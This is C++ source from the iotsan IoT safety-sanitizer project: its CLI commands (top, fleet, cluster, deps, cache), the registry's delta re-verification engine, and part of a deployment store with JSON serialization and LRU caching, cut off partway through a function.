HttpResult HttpCall(const std::string& host, int port,
                    const std::string& method, const std::string& path,
                    const std::string& body = "",
                    const std::vector<std::string>& headers = {}) {
  return util::HttpCall(host, port, method, path, body, headers);
}

// ---- iotsan top --------------------------------------------------------------

std::string HttpGetBody(const std::string& host, int port,
                        const std::string& path) {
  HttpResult result = HttpCall(host, port, "GET", path);
  if (result.status != 200) {
    throw Error("top: HTTP " + std::to_string(result.status) + " from " +
                path);
  }
  return std::move(result.body);
}

/// Renders one /v1/status document as the `iotsan top` frame.
std::string RenderStatusFrame(const json::Value& doc,
                              const std::string& endpoint) {
  std::string out;
  char line[256];
  std::snprintf(line, sizeof line,
                "iotsan top — %s  status %s  up %.0fs\n", endpoint.c_str(),
                doc.At("status").AsString().c_str(),
                doc.At("uptime_seconds").AsNumber());
  out += line;
  const std::int64_t active = doc.Has("active_connections")
                                  ? doc.At("active_connections").AsInt()
                                  : 0;
  const std::int64_t queued =
      doc.Has("queue_depth") ? doc.At("queue_depth").AsInt() : 0;
  std::snprintf(line, sizeof line,
                "connections %lld active, %lld queued   peak rss %s\n\n",
                static_cast<long long>(active),
                static_cast<long long>(queued),
                core::HumanBytes(static_cast<std::uint64_t>(
                                     doc.At("peak_rss_bytes").AsInt()))
                    .c_str());
  out += line;
  const json::Array& inflight = doc.At("inflight").AsArray();
  if (inflight.empty()) {
    out += "(no verification requests in flight)\n";
    return out;
  }
  std::snprintf(line, sizeof line, "%-18s %-20s %8s %12s %10s %10s %9s\n",
                "REQUEST", "DEPLOYMENT", "GROUPS", "STATES", "STATES/S",
                "STORE", "ELAPSED");
  out += line;
  for (const json::Value& entry : inflight) {
    std::string groups =
        std::to_string(entry.At("groups_done").AsInt()) + "/" +
        std::to_string(entry.At("groups_total").AsInt());
    std::string elapsed;
    {
      char buf[32];
      std::snprintf(buf, sizeof buf, "%.1fs",
                    entry.At("elapsed_seconds").AsNumber());
      elapsed = buf;
      const double deadline = entry.At("deadline_seconds").AsNumber();
      if (deadline > 0) {
        std::snprintf(buf, sizeof buf, "/%.0fs", deadline);
        elapsed += buf;
      }
    }
    std::snprintf(
        line, sizeof line, "%-18.18s %-20.20s %8s %12lld %10.0f %10s %9s\n",
        entry.At("request_id").AsString().c_str(),
        entry.At("deployment").AsString().c_str(), groups.c_str(),
        static_cast<long long>(entry.At("states_explored").AsInt()),
        entry.At("states_per_second").AsNumber(),
        core::HumanBytes(static_cast<std::uint64_t>(
                             entry.At("store_memory_bytes").AsInt()))
            .c_str(),
        elapsed.c_str());
    out += line;
  }
  return out;
}

int CmdTop(const std::vector<std::string>& args) {
  CliFlags flags;
  std::vector<std::string> positionals = ParseFlags(kCmdTop, args, flags);
  if (flags.help) {
    PrintHelp(stdout);
    return 0;
  }
  if (!positionals.empty()) {
    std::fprintf(stderr, "%s\n", UsageFor(kCmdTop).c_str());
    return 2;
  }
  const std::string endpoint =
      "http://" + flags.host + ":" + std::to_string(flags.port);
  if (flags.once) {
    const json::Value doc =
        json::Parse(HttpGetBody(flags.host, flags.port, "/v1/status"));
    std::fputs(RenderStatusFrame(doc, endpoint).c_str(), stdout);
    return 0;
  }
  const std::atomic<bool>& interrupted = util::InstallInterruptHandlers();
  while (!interrupted.load(std::memory_order_relaxed)) {
    std::string frame;
    try {
      const json::Value doc =
          json::Parse(HttpGetBody(flags.host, flags.port, "/v1/status"));
      frame = RenderStatusFrame(doc, endpoint);
    } catch (const Error& e) {
      frame = "iotsan top — " + endpoint + "  unreachable: " + e.what() +
              "\n";
    }
    // Home the cursor and clear to the end of the screen — a repaint,
    // not a scroll.
    std::printf("\x1b[H\x1b[J%s", frame.c_str());
    std::fflush(stdout);
    for (int tick = 0; tick < flags.interval_seconds * 10 &&
                       !interrupted.load(std::memory_order_relaxed);
         ++tick) {
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
  }
  return 0;
}

// ---- iotsan fleet ------------------------------------------------------------

/// Prints the server's structured error ({"error": {code, message}})
/// and returns the command's failure status.
int FleetHttpError(const std::string& action, const HttpResult& result) {
  std::string message = result.body;
  try {
    const json::Value doc = json::Parse(result.body);
    message = doc.At("error").At("message").AsString();
  } catch (const Error&) {
    // Leave the raw body in place when it is not the structured shape.
  }
  std::fprintf(stderr, "fleet %s: HTTP %d: %s\n", action.c_str(),
               result.status, message.c_str());
  return 1;
}

/// Builds the iotsan.request/1 envelope a PUT carries: the deployment
/// document with its side-loaded app sources inlined as text (the
/// server never reads files).
std::string FleetPutBody(const std::string& path) {
  LoadedSystem system = LoadSystem(path);
  json::Object envelope;
  envelope["schema"] = server::kRequestSchema;
  envelope["deployment"] = config::DeploymentToJson(system.deployment);
  if (!system.extra_sources.empty()) {
    json::Object sources;
    for (const auto& [name, source] : system.extra_sources) {
      sources[name] = source;
    }
    envelope["appSources"] = std::move(sources);
  }
  return json::Value(std::move(envelope)).Dump(0);
}

int CmdFleet(const std::vector<std::string>& args) {
  CliFlags flags;
  std::vector<std::string> positionals = ParseFlags(kCmdFleet, args, flags);
  if (flags.help) {
    PrintHelp(stdout);
    return 0;
  }
  if (positionals.empty()) {
    std::fprintf(stderr, "%s\n", UsageFor(kCmdFleet).c_str());
    return 2;
  }
  const std::string action = positionals[0];

  if (action == "list") {
    if (positionals.size() != 1) {
      std::fprintf(stderr, "usage: iotsan fleet list\n");
      return 2;
    }
    HttpResult result =
        HttpCall(flags.host, flags.port, "GET", "/v1/deployments");
    if (result.status != 200) return FleetHttpError(action, result);
    const json::Value doc = json::Parse(result.body);
    std::printf("%-24s %8s %8s %-12s %14s %9s\n", "DEPLOYMENT", "REV",
                "CHECKED", "VERDICT", "GROUPS(RERUN)", "SECONDS");
    for (const json::Value& row : doc.At("deployments").AsArray()) {
      const std::string groups =
          std::to_string(row.At("groups_recomputed").AsInt()) + "/" +
          std::to_string(row.At("groups_total").AsInt());
      std::printf("%-24.24s %8lld %8lld %-12s %14s %9.3f\n",
                  row.At("id").AsString().c_str(),
                  static_cast<long long>(row.At("revision").AsInt()),
                  static_cast<long long>(row.At("checked_revision").AsInt()),
                  row.At("verdict").AsString().c_str(), groups.c_str(),
                  row.At("check_seconds").AsNumber());
    }
    return 0;
  }

  if (action == "put") {
    if (positionals.size() != 3) {
      std::fprintf(stderr, "usage: iotsan fleet put <id> <deployment.json>\n");
      return 2;
    }
    HttpResult result =
        HttpCall(flags.host, flags.port, "PUT",
                 "/v1/deployments/" + positionals[1],
                 FleetPutBody(positionals[2]));
    if (result.status != 200 && result.status != 201) {
      return FleetHttpError(action, result);
    }
    const json::Value doc = json::Parse(result.body);
    std::printf("fleet put: %s %s at revision %lld\n",
                positionals[1].c_str(),
                result.status == 201 ? "created" : "updated",
                static_cast<long long>(doc.At("revision").AsInt()));
    return 0;
  }

  if (action == "get") {
    if (positionals.size() != 2) {
      std::fprintf(stderr, "usage: iotsan fleet get <id>\n");
      return 2;
    }
    HttpResult result = HttpCall(flags.host, flags.port, "GET",
                                 "/v1/deployments/" + positionals[1]);
    if (result.status != 200) return FleetHttpError(action, result);
    std::fputs(result.body.c_str(), stdout);
    return 0;
  }

  if (action == "rm") {
    if (positionals.size() != 2) {
      std::fprintf(stderr, "usage: iotsan fleet rm <id>\n");
      return 2;
    }
    HttpResult result = HttpCall(flags.host, flags.port, "DELETE",
                                 "/v1/deployments/" + positionals[1]);
    if (result.status != 200) return FleetHttpError(action, result);
    std::printf("fleet rm: %s deleted\n", positionals[1].c_str());
    return 0;
  }

  if (action == "check") {
    if (positionals.size() != 2) {
      std::fprintf(stderr,
                   "usage: iotsan fleet check <id> [--if-match REVISION]\n");
      return 2;
    }
    std::vector<std::string> headers;
    if (!flags.if_match.empty()) {
      headers.push_back("If-Match: \"" + flags.if_match + "\"");
    }
    // Delta re-verification is idempotent, so transient transport
    // failures (refused connection while the server restarts, a broken
    // pipe mid-drain) are retried with jittered exponential backoff
    // instead of failing the whole invocation.
    util::RetryPolicy policy;
    HttpResult result = util::HttpCallWithRetry(
        policy,
        [&] {
          return HttpCall(flags.host, flags.port, "POST",
                          "/v1/deployments/" + positionals[1] + "/check",
                          "{}", headers);
        },
        [](int attempt, int delay_ms, const std::string& error) {
          std::fprintf(stderr,
                       "fleet check: attempt %d failed (%s), retrying in "
                       "%dms\n",
                       attempt, error.c_str(), delay_ms);
        });
    if (result.status != 200) return FleetHttpError(action, result);
    const json::Value doc = json::Parse(result.body);
    std::fputs(doc.At("text").AsString().c_str(), stdout);
    const json::Value& delta = doc.At("delta");
    std::printf("delta: %lld/%lld group(s) re-verified (%lld reused) "
                "in %.3fs at revision %lld\n",
                static_cast<long long>(delta.At("groups_recomputed").AsInt()),
                static_cast<long long>(delta.At("groups_total").AsInt()),
                static_cast<long long>(delta.At("groups_reused").AsInt()),
                doc.At("check_seconds").AsNumber(),
                static_cast<long long>(doc.At("revision").AsInt()));
    return static_cast<int>(doc.At("exit_code").AsInt());
  }

  std::fprintf(stderr,
               "unknown fleet action: %s (want list, put, get, rm, or "
               "check)\n",
               action.c_str());
  return 2;
}

// ---- iotsan cluster ----------------------------------------------------------

/// `iotsan cluster check <deployment.json> --workers host:port,...`:
/// run one verification as an in-process coordinator over a remote
/// worker fleet.  stdout is byte-identical to `iotsan check` on the
/// same deployment (docs/cluster.md); the dispatch summary goes to
/// stderr so output comparison stays trivial.
int CmdCluster(const std::vector<std::string>& args) {
  CliFlags flags;
  std::vector<std::string> positionals =
      ParseFlags(kCmdCluster, args, flags);
  if (flags.help) {
    PrintHelp(stdout);
    return 0;
  }
  if (positionals.size() != 2 || positionals[0] != "check") {
    std::fprintf(stderr, "%s\n", UsageFor(kCmdCluster).c_str());
    return 2;
  }
  if (flags.workers.empty()) {
    throw Error("cluster check: --workers host:port,... is required");
  }
  checker::ResetSaturationWarning();
  LoadedSystem system = LoadSystem(positionals[1]);
  core::CheckRequest request;
  request.deployment = std::move(system.deployment);
  request.extra_sources = std::move(system.extra_sources);
  request.options = RequestOptionsFromFlags(flags);
  request.options.deadline_seconds = flags.deadline_seconds;
  if (!flags.properties_path.empty()) {
    request.extra_properties =
        props::LoadPropertiesJson(ReadFile(flags.properties_path));
  }
  CliEnv cli = MakeCliEnv(flags);
  TelemetrySession telemetry_session(flags);

  cluster::ClusterOptions options;
  options.workers = cluster::ParseWorkerList(flags.workers);
  options.unit_deadline_seconds = flags.unit_deadline_seconds;
  options.branch_split = static_cast<unsigned>(flags.branch_split);
  options.swarm_lanes = static_cast<unsigned>(flags.swarm_lanes);
  options.allow_local_fallback = !flags.no_local_fallback;
  cluster::Coordinator coordinator(std::move(options));
  cluster::ClusterOutcome outcome = coordinator.Check(request, cli.env);
  std::fputs(outcome.response.text.c_str(), stdout);
  std::fprintf(stderr,
               "cluster: %zu unit(s): %zu remote, %zu local, %zu "
               "re-dispatched%s\n",
               outcome.units_total, outcome.units_remote,
               outcome.units_local, outcome.units_redispatched,
               outcome.degraded_local ? " (degraded to local)" : "");
  telemetry_session.PrintStats();
  if (util::InterruptRequested()) {
    std::fprintf(stderr,
                 "interrupted by signal %d: partial results above\n",
                 util::InterruptSignal());
    return util::InterruptExitCode();
  }
  return outcome.response.exit_code;
}

int CmdDeps(const std::vector<std::string>& args) {
  CliFlags flags;
  std::vector<std::string> positionals = ParseFlags(kCmdDeps, args, flags);
  if (flags.help) {
    PrintHelp(stdout);
    return 0;
  }
  if (positionals.size() != 1) {
    std::fprintf(stderr, "%s\n", UsageFor(kCmdDeps).c_str());
    return 2;
  }
  TelemetrySession telemetry_session(flags);
  LoadedSystem system = LoadSystem(positionals[0]);
  std::vector<ir::AnalyzedApp> apps = AnalyzeDeploymentApps(system);
  deps::DependencyGraph graph = deps::DependencyGraph::Build(apps);
  std::printf("%s", graph.ToDot(apps).c_str());
  std::printf("\nrelated sets:\n");
  for (const deps::RelatedSet& set : deps::ComputeRelatedSets(graph)) {
    std::printf("  {");
    for (std::size_t i = 0; i < set.vertices.size(); ++i) {
      std::printf("%s%d", i ? ", " : "", set.vertices[i]);
    }
    std::printf("}  apps:");
    for (int app : set.apps) {
      std::printf(" %s;", apps[static_cast<std::size_t>(app)].app.name.c_str());
    }
    std::printf("\n");
  }
  deps::ScaleStats stats = deps::ComputeScaleStats(apps);
  std::printf("scale: %d handlers -> %d (ratio %.1f)\n",
              stats.original_size, stats.new_size, stats.ratio);
  telemetry_session.PrintStats();
  return 0;
}

int CmdPromela(const std::vector<std::string>& args) {
  CliFlags flags;
  std::vector<std::string> positionals = ParseFlags(kCmdPromela, args, flags);
  if (flags.help) {
    PrintHelp(stdout);
    return 0;
  }
  if (positionals.size() != 1) {
    std::fprintf(stderr, "%s\n", UsageFor(kCmdPromela).c_str());
    return 2;
  }
  LoadedSystem system = LoadSystem(positionals[0]);
  promela::EmitOptions options;
  if (flags.events > 0) options.max_events = flags.events;
  std::vector<ir::AnalyzedApp> apps = AnalyzeDeploymentApps(system);
  model::SystemModel model(system.deployment, std::move(apps));
  std::printf("%s", promela::EmitPromela(model, options).c_str());
  return 0;
}

int CmdCache(const std::vector<std::string>& args) {
  if (args.size() != 2) {
    std::fprintf(stderr, "usage: iotsan cache <stats|prune|clear> <DIR>\n");
    return 2;
  }
  const std::string& action = args[0];
  const std::string& dir = args[1];
  const std::string version = build::GetBuildInfo().version;
  cache::DirStats stats;
  if (action == "stats") {
    stats = cache::ResultCache::Scan(dir, version);
  } else if (action == "prune") {
    stats = cache::ResultCache::Prune(dir, version);
  } else if (action == "clear") {
    stats = cache::ResultCache::Clear(dir);
  } else {
    std::fprintf(stderr,
                 "unknown cache action: %s (want stats, prune, or clear)\n",
                 action.c_str());
    return 2;
  }
  std::printf("cache %s (version %s, schema %s)\n", dir.c_str(),
              version.c_str(), cache::kCacheSchema);
  std::printf("  entries: %llu current (%s), %llu stale, %llu corrupt\n",
              static_cast<unsigned long long>(stats.entries),
              core::HumanBytes(stats.bytes).c_str(),
              static_cast<unsigned long long>(stats.stale),
              static_cast<unsigned long long>(stats.corrupt));
  if (action != "stats") {
    std::printf("  removed: %llu file(s)\n",
                static_cast<unsigned long long>(stats.removed));
  }
  return 0;
}

int CmdApps() {
  std::printf("%-32s %s\n", "name", "kind");
  for (const corpus::CorpusApp& app : corpus::AllApps()) {
    const char* kind = "market";
    if (app.kind == corpus::AppKind::kMalicious) kind = "malicious";
    if (app.kind == corpus::AppKind::kUnsupported) kind = "unsupported";
    std::printf("%-32s %s\n", app.name.c_str(), kind);
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  std::vector<std::string> args(argv + 1, argv + argc);
  if (args.empty()) {
    std::fprintf(stderr,
                 "iotsan — IoT safety sanitizer (IotSan, CoNEXT '18)\n"
                 "commands: check, attribute, deps, promela, serve, top, "
                 "fleet, cluster, cache, apps, help\n"
                 "run 'iotsan help' for the full flag reference\n");
    return 2;
  }
  const std::string command = args[0];
  args.erase(args.begin());
  try {
    if (command == "check") return CmdCheck(args);
    if (command == "attribute") return CmdAttribute(args);
    if (command == "deps") return CmdDeps(args);
    if (command == "promela") return CmdPromela(args);
    if (command == "serve") return CmdServe(args);
    if (command == "top") return CmdTop(args);
    if (command == "fleet") return CmdFleet(args);
    if (command == "cluster") return CmdCluster(args);
    if (command == "cache") return CmdCache(args);
    if (command == "apps") return CmdApps();
    if (command == "version" || command == "--version") {
      std::printf("%s\n", build::VersionLine().c_str());
      return 0;
    }
    if (command == "help" || command == "--help" || command == "-h") {
      PrintHelp(stdout);
      return 0;
    }
    std::fprintf(stderr, "unknown command: %s (see 'iotsan help')\n",
                 command.c_str());
    return 2;
  } catch (const iotsan::Error& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    return 2;
  }
}
