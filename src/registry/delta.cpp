#include "registry/delta.hpp"

#include <atomic>
#include <chrono>
#include <map>
#include <memory>
#include <mutex>
#include <string_view>

#include "cache/result_cache.hpp"
#include "telemetry/telemetry.hpp"
#include "util/build_info.hpp"
#include "util/thread_pool.hpp"

namespace iotsan::registry {

namespace {

/// Same rule the result cache applies before memoizing: budget-stopped
/// runs depend on wall clock and multi-lane bitstate searches race on
/// bit insertions, so neither may be replayed on the next delta.
bool Retainable(const checker::CheckResult& result, unsigned effective_jobs) {
  if (!result.completed) return false;
  if (result.store_fill_ratio > 0 && effective_jobs > 1) return false;
  return true;
}

}  // namespace

RegistryCheckOutcome RunRegistryCheck(const core::CheckRequest& request,
                                      const core::ServiceEnv& env,
                                      const CheckRecord* prior) {
  core::Sanitizer sanitizer(request.deployment);
  for (const auto& [name, source] : request.extra_sources) {
    sanitizer.AddAppSource(name, source);
  }
  core::SanitizerOptions options = core::MakeCheckOptions(request.options, env);
  options.extra_properties = request.extra_properties;

  core::SanitizerReport report;
  const std::vector<std::vector<std::size_t>> groups =
      sanitizer.PlanGroups(options, report);
  const std::string version = options.cache != nullptr
                                  ? options.cache->version()
                                  : build::GetBuildInfo().version;

  // The prior revision's fingerprint map.  Keys recorded under a
  // different fingerprint version are incomparable — the whole record
  // is ignored and the check runs full.
  std::map<std::string_view, const checker::CheckResult*> retained;
  if (prior != nullptr && prior->cache_version == version) {
    for (const CheckRecord::Group& group : prior->groups) {
      retained[group.key.text] = &group.result;
    }
  }

  // Classify: a recomputed key that matches a retained one means the
  // edit left that group's inputs untouched (unchanged -> reuse); a
  // miss is a dirty or added group (re-run); retained keys no current
  // group claims belong to removed groups and simply drop out.
  struct Slot {
    cache::GroupKey key;
    checker::CheckResult result;
    bool reused = false;
  };
  std::vector<Slot> slots(groups.size());
  std::vector<std::size_t> dirty;
  for (std::size_t i = 0; i < groups.size(); ++i) {
    slots[i].key = sanitizer.GroupKeyFor(groups[i], options, version);
    auto it = retained.find(slots[i].key.text);
    if (it != retained.end()) {
      slots[i].result = *it->second;
      slots[i].reused = true;
    } else {
      dirty.push_back(i);
    }
  }

  // Re-run only the dirty + added groups, through the exact group
  // dispatch Sanitizer::Check uses (telemetry and progress included;
  // progress counts the groups actually running).
  std::atomic<std::uint64_t> groups_done{0};
  std::atomic<std::uint64_t> group_states{0};
  std::mutex progress_mutex;
  auto check_group = [&](std::size_t index,
                         const checker::CheckOptions& check) {
    const auto group_start = std::chrono::steady_clock::now();
    checker::CheckResult result =
        sanitizer.CheckGroup(groups[index], options, check);
    if (auto* t = telemetry::Active()) {
      t->search_hist.group_check_duration_us.Record(static_cast<std::uint64_t>(
          std::chrono::duration_cast<std::chrono::microseconds>(
              std::chrono::steady_clock::now() - group_start)
              .count()));
      if (result.seconds > 0) {
        t->search_hist.group_states_per_second.Record(
            static_cast<std::uint64_t>(
                static_cast<double>(result.states_explored) / result.seconds));
      }
    }
    if (options.on_group_progress) {
      telemetry::GroupProgress progress;
      progress.groups_total = dirty.size();
      progress.groups_done = groups_done.fetch_add(1) + 1;
      progress.states_explored =
          group_states.fetch_add(result.states_explored) +
          result.states_explored;
      progress.store_memory_bytes = result.store_memory_bytes;
      progress.seconds = result.seconds;
      std::lock_guard<std::mutex> lock(progress_mutex);
      options.on_group_progress(progress);
    }
    return result;
  };

  const unsigned jobs = util::ResolveJobs(options.check.jobs);
  unsigned effective_jobs = jobs;
  if (jobs > 1 && dirty.size() > 1) {
    // Pre-parse the lazily-cached property expressions on this thread —
    // group workers would otherwise race on the shared builtins.
    for (const props::Property& p : props::BuiltinProperties()) {
      if (p.kind == props::PropertyKind::kInvariant) p.ParsedExpression();
    }
    for (const props::Property& p : options.extra_properties) {
      if (p.kind == props::PropertyKind::kInvariant) p.ParsedExpression();
    }
    std::unique_ptr<util::ThreadPool> owned_pool;
    util::ThreadPool* pool = options.check.pool;
    checker::CheckOptions check = options.check;
    if (pool == nullptr) {
      owned_pool = std::make_unique<util::ThreadPool>(jobs);
      pool = owned_pool.get();
      check.pool = pool;
      if (auto* t = telemetry::Active()) {
        ++t->parallel.pools_created;
        t->parallel.workers_spawned += pool->jobs() - 1;
      }
    }
    effective_jobs = static_cast<unsigned>(pool->jobs());
    pool->ParallelFor(dirty.size(), [&](std::size_t d) {
      slots[dirty[d]].result = check_group(dirty[d], check);
    });
    if (auto* t = telemetry::Active()) {
      t->parallel.group_tasks += dirty.size();
      if (owned_pool != nullptr) {
        const util::ThreadPool::Stats stats = pool->stats();
        t->parallel.tasks_run += stats.tasks_run;
        t->parallel.tasks_stolen += stats.tasks_stolen;
      }
    }
  } else {
    if (options.check.pool != nullptr) {
      effective_jobs = static_cast<unsigned>(options.check.pool->jobs());
    }
    for (std::size_t index : dirty) {
      slots[index].result = check_group(index, options.check);
    }
  }

  // Merge in group order — byte-identical to the serial full check.
  // Seconds stay the per-group sum even after a parallel fan-out (see
  // the determinism note in the header).
  for (const Slot& slot : slots) {
    core::MergeGroupResult(report, checker::CheckResult(slot.result));
  }
  core::FinalizeReport(report);

  RegistryCheckOutcome out;
  out.response.report = std::move(report);
  out.response.text =
      core::RenderCheckReport(request.deployment, out.response.report);
  out.response.exit_code =
      out.response.report.violations.empty() ? 0 : 1;
  out.groups_total = groups.size();
  out.groups_recomputed = dirty.size();
  out.groups_reused = groups.size() - dirty.size();

  out.record.cache_version = version;
  out.record.verdict =
      out.response.report.violations.empty() ? "clean" : "violations";
  out.record.exit_code = out.response.exit_code;
  out.record.groups_total = groups.size();
  out.record.groups_recomputed = dirty.size();
  for (Slot& slot : slots) {
    if (!Retainable(slot.result, effective_jobs)) continue;
    out.record.groups.push_back(
        {std::move(slot.key), std::move(slot.result)});
  }

  if (auto* t = telemetry::Active()) {
    t->registry.groups_total += groups.size();
    t->registry.groups_reused += out.groups_reused;
    t->registry.groups_recomputed += out.groups_recomputed;
    if (out.groups_reused > 0) {
      ++t->registry.checks_delta;
    } else {
      ++t->registry.checks_full;
    }
  }
  return out;
}

}  // namespace iotsan::registry
