// Delta re-verification (docs/fleet.md): re-run only the related-set
// groups a revision actually changed, reuse the prior revision's
// retained results for the rest, and produce a response byte-identical
// to a cold full check of the new config.
//
// Correctness rests on the same content-addressing the result cache
// uses: a group's result is a pure function of its GroupKey (config
// slice, source fingerprints, property set, check/model options), so a
// retained result whose key matches the recomputed key is exactly what
// a cold run would produce — the test suite asserts the byte-identity
// rather than assuming it.
#pragma once

#include "core/service.hpp"
#include "registry/deployment_store.hpp"

namespace iotsan::registry {

struct RegistryCheckOutcome {
  /// Same shape RunCheck returns; `text` and `report` are
  /// byte-identical to a cold full check of the same config (see
  /// the determinism note on RunRegistryCheck).
  core::CheckResponse response;
  /// Retained results for the next delta (revision/check_seconds are
  /// filled by the caller, which owns the wall clock and the token).
  CheckRecord record;
  std::uint64_t groups_total = 0;
  std::uint64_t groups_reused = 0;
  std::uint64_t groups_recomputed = 0;
};

/// Plans the request's related-set groups, classifies each against
/// `prior`'s fingerprint map (unchanged = key match -> reuse; dirty /
/// added = no match -> re-run via Sanitizer::CheckGroup; removed =
/// prior keys with no current group -> dropped), merges in group order,
/// and renders through the shared service renderer.
///
/// Determinism note: unlike Sanitizer::Check, the report's `seconds`
/// is always the sum of per-group seconds — even when groups fan out
/// over a pool — so registry reports are reproducible and a delta
/// response can be byte-compared against a cold full check.  Wall-clock
/// latency lives in the registry.*_check_duration_us histograms
/// instead.  `prior` may be nullptr (a full check).
RegistryCheckOutcome RunRegistryCheck(const core::CheckRequest& request,
                                      const core::ServiceEnv& env,
                                      const CheckRecord* prior);

}  // namespace iotsan::registry
