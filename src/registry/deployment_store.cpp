#include "registry/deployment_store.hpp"

#include <algorithm>
#include <filesystem>
#include <set>

#include "props/loader.hpp"
#include "telemetry/telemetry.hpp"
#include "util/error.hpp"
#include "util/fs.hpp"
#include "util/hash.hpp"
#include "util/log.hpp"

namespace iotsan::registry {

namespace fs = std::filesystem;

bool IsValidDeploymentId(const std::string& id) {
  if (id.empty() || id.size() > 64) return false;
  for (char c : id) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                    (c >= '0' && c <= '9') || c == '.' || c == '_' || c == '-';
    if (!ok) return false;
  }
  // "." / ".." resolve to other directories; a leading dot hides the
  // entry from the disk listing.  Both are invalid ids.
  return id[0] != '.';
}

std::vector<props::Property> StoredDeployment::ExtraProperties() const {
  if (properties_json.empty()) return {};
  return props::LoadPropertiesJson(properties_json);
}

// ---- serialization -----------------------------------------------------------

json::Value StoredDeploymentToJson(const StoredDeployment& deployment) {
  json::Object doc;
  doc["schema"] = kDeploymentSchema;
  doc["id"] = deployment.id;
  doc["revision"] = static_cast<std::int64_t>(deployment.revision);
  doc["deployment"] = config::DeploymentToJson(deployment.deployment);
  if (!deployment.app_sources.empty()) {
    json::Object sources;
    for (const auto& [name, source] : deployment.app_sources) {
      sources[name] = source;
    }
    doc["appSources"] = std::move(sources);
  }
  if (!deployment.properties_json.empty()) {
    doc["properties"] = json::Parse(deployment.properties_json);
  }
  return json::Value(std::move(doc));
}

StoredDeployment StoredDeploymentFromJson(const json::Value& doc) {
  if (doc.GetString("schema") != kDeploymentSchema) {
    throw Error("deployment entry: wrong schema '" + doc.GetString("schema") +
                "' (want '" + std::string(kDeploymentSchema) + "')");
  }
  StoredDeployment out;
  out.id = doc.GetString("id");
  out.revision = static_cast<std::uint64_t>(doc.GetNumber("revision"));
  out.deployment = config::ParseDeployment(doc.At("deployment"));
  if (doc.Has("appSources")) {
    for (const auto& [name, source] : doc.At("appSources").AsObject()) {
      out.app_sources[name] = source.AsString();
    }
  }
  if (doc.Has("properties")) {
    out.properties_json = doc.At("properties").Dump(0);
  }
  return out;
}

json::Value CheckRecordToJson(const CheckRecord& record) {
  json::Object doc;
  doc["schema"] = kRecordSchema;
  doc["revision"] = static_cast<std::int64_t>(record.revision);
  doc["cache_version"] = record.cache_version;
  doc["verdict"] = record.verdict;
  doc["exit_code"] = record.exit_code;
  doc["check_seconds"] = record.check_seconds;
  doc["groups_total"] = static_cast<std::int64_t>(record.groups_total);
  doc["groups_recomputed"] =
      static_cast<std::int64_t>(record.groups_recomputed);
  json::Array groups;
  for (const CheckRecord::Group& group : record.groups) {
    // Reuse the result cache's entry serialization: key + key_text +
    // the replayable result fields, one object per group.
    groups.push_back(
        cache::EntryToJson(group.key, record.cache_version, group.result));
  }
  doc["groups"] = std::move(groups);
  return json::Value(std::move(doc));
}

CheckRecord CheckRecordFromJson(const json::Value& doc) {
  if (doc.GetString("schema") != kRecordSchema) {
    throw Error("check record: wrong schema '" + doc.GetString("schema") +
                "' (want '" + std::string(kRecordSchema) + "')");
  }
  CheckRecord out;
  out.revision = static_cast<std::uint64_t>(doc.GetNumber("revision"));
  out.cache_version = doc.GetString("cache_version");
  out.verdict = doc.GetString("verdict");
  out.exit_code = static_cast<int>(doc.GetNumber("exit_code"));
  out.check_seconds = doc.GetNumber("check_seconds");
  out.groups_total = static_cast<std::uint64_t>(doc.GetNumber("groups_total"));
  out.groups_recomputed =
      static_cast<std::uint64_t>(doc.GetNumber("groups_recomputed"));
  for (const json::Value& entry : doc.At("groups").AsArray()) {
    CheckRecord::Group group;
    group.key.text = entry.GetString("key_text");
    group.key.digest = hash::Fnv1a64(group.key.text);
    if (entry.GetString("key") != group.key.Hex()) {
      throw Error("check record: group key/digest mismatch");
    }
    group.result = cache::EntryFromJson(entry, group.key, out.cache_version);
    out.groups.push_back(std::move(group));
  }
  return out;
}

// ---- DeploymentStore ---------------------------------------------------------

DeploymentStore::DeploymentStore(StoreConfig config)
    : config_(std::move(config)) {
  if (!config_.dir.empty()) fs::create_directories(config_.dir);
}

std::string DeploymentStore::DirFor(const std::string& id) const {
  return config_.dir + "/" + id;
}

DeploymentStore::Entry* DeploymentStore::FindLocked(const std::string& id) {
  auto it = index_.find(id);
  if (it == index_.end()) return nullptr;
  TouchLocked(it->second);
  return &*it->second;
}

DeploymentStore::Entry* DeploymentStore::LoadLocked(const std::string& id) {
  if (config_.dir.empty()) return nullptr;
  const std::string path = DirFor(id) + "/deployment.json";
  const std::string text = util::ReadFileOrEmpty(path);
  if (text.empty()) return nullptr;
  Entry entry;
  entry.id = id;
  try {
    entry.deployment = StoredDeploymentFromJson(json::Parse(text));
  } catch (const Error& e) {
    // Corrupt, truncated, or schema-mismatched: not_found, never an
    // error — the next PUT overwrites it with a good entry.
    if (auto* t = telemetry::Active()) ++t->registry.corrupt_entries;
    util::LogDebug("registry", "unreadable deployment treated as not_found",
                   {{"path", path}, {"reason", e.what()}});
    return nullptr;
  }
  lru_.push_front(std::move(entry));
  index_[id] = lru_.begin();
  EvictLocked();
  return &lru_.front();
}

void DeploymentStore::TouchLocked(std::list<Entry>::iterator it) {
  lru_.splice(lru_.begin(), lru_, it);
}

void DeploymentStore::EvictLocked() {
  // Memory-only stores never evict: there is no disk copy to reload.
  if (config_.dir.empty()) return;
  while (lru_.size() > std::max<std::size_t>(config_.memory_entries, 1)) {
    index_.erase(lru_.back().id);
    lru_.pop_back();
    if (auto* t = telemetry::Active()) ++t->registry.evictions;
  }
}

std::uint64_t DeploymentStore::Put(StoredDeployment deployment) {
  if (!IsValidDeploymentId(deployment.id)) {
    throw Error("invalid deployment id '" + deployment.id +
                "' (want [A-Za-z0-9._-]{1,64}, no leading dot)");
  }
  std::lock_guard<std::mutex> lock(mutex_);
  Entry* entry = FindLocked(deployment.id);
  if (entry == nullptr) entry = LoadLocked(deployment.id);
  deployment.revision =
      (entry != nullptr ? entry->deployment.revision : 0) + 1;
  if (!config_.dir.empty()) {
    fs::create_directories(DirFor(deployment.id));
    util::AtomicWriteFile(DirFor(deployment.id) + "/deployment.json",
                          StoredDeploymentToJson(deployment).Dump(0) + "\n");
  }
  const std::uint64_t revision = deployment.revision;
  if (entry != nullptr) {
    // The prior check record stays: its per-group results are
    // content-addressed, so the delta engine can still reuse the
    // groups the edit left untouched.
    entry->deployment = std::move(deployment);
  } else {
    Entry fresh;
    fresh.id = deployment.id;
